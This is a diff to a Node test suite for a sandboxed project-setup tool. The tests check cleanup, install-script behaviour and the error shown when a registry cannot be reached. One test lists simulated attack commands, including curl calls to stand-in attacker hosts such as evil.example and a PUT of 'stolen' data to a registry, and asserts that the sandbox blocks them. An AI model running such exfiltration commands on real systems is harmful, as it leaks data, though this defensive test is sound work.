@@ -1,10 +1,11 @@
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { once } from 'node:events';
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
+import { exitCodes } from '../../../src/shared/errors';
 import type { AnyEvent } from '../../../src/shared/events';
 import { reduce } from '../../../src/shared/reduce';
 import { readJournal } from '../../../src/trace/tail';
@@ -117,6 +118,8 @@ describe('setup of a project with dependencies', function () {
     const archives = registry.asked.filter(({ url }) => url.endsWith('.tgz'));
     assert.ok(archives.length >= 3, 'for agents, verify and validate');
     assert.ok(archives.every(({ headers }) => headers.authorization === `Bearer ${secret}`));
+    const left = readdirSync(runFolders(project.store)[0] ?? '');
+    assert.ok(!left.includes('setup') && !left.includes('homes'), left.join());
     const found = spawnSync('grep', ['-rlF', secret, project.store, project.workspace], { encoding: 'utf8' });
     assert.equal(found.stdout, '');
   });
@@ -125,7 +128,12 @@ describe('setup of a project with dependencies', function () {
     const spec = readFileSync(project.spec, 'utf8');
     give('greet.spec.md', spec.replace('  test: node', '  setup: npm ci && bash extra.sh\n  test: node'));
     give('extra.sh', 'true\n');
+    writeFileSync(
+      policy,
+      `version: 1\nbudget: { debugRounds: 1 }\nnetwork: { allow: ["${registry.origin}"], scripts: true }\n`,
+    );
     const attack = [
+      'cat scripts-ran',
       `curl -s ${evilOrigin}/take`,
       `curl -s https://evil.example/take`,
       `curl -s -X PUT -d stolen ${registry.origin}/tiny-dep`,
@@ -160,6 +168,10 @@ describe('setup of a project with dependencies', function () {
       setups.some(({ output }) => output.text.includes('NODE_EXTRA_CA_CERTS=')),
       'the attack ran',
     );
+    assert.ok(
+      setups.some(({ output }) => output.text.includes('npm_lifecycle_event=postinstall')),
+      'a package wrote down its environment',
+    );
     assert.equal(evilAsked, 0);
     assert.deepEqual(new Set(registry.asked.map(({ method }) => method)), new Set(['GET']));
     assert.deepEqual(processesWith(String(daemonSeconds)), []);
@@ -178,6 +190,16 @@ describe('setup of a project with dependencies', function () {
     assert.equal(code, 3, stdout + stderr);
     assert.match(stdout, /is an address of this machine or its network.*darkFactory\.limits\.network/s);
     assert.deepEqual(registry.asked, []);
+  });
+
+  it('says which registry could not be reached when nothing of it was kept', async () => {
+    const gone = 'http://127.0.0.1:1';
+    give('.npmrc', `registry=${gone}/\nfetch-retries=0\n`);
+    give('package-lock.json', JSON.stringify(lock()).replaceAll(registry.origin, gone));
+    writeFileSync(policy, `version: 1\nnetwork: { allow: ["${gone}"] }\n`);
+    const { code, stdout } = await run(tinyScript(), '--policy', policy);
+    assert.equal(code, exitCodes.failed);
+    assert.match(stdout, /"npm ci" failed because 127\.0\.0\.1:1 could not be reached.*resume the run/s);
   });
 
   it('refuses a policy of the repository that names a host the person did not allow', async () => {
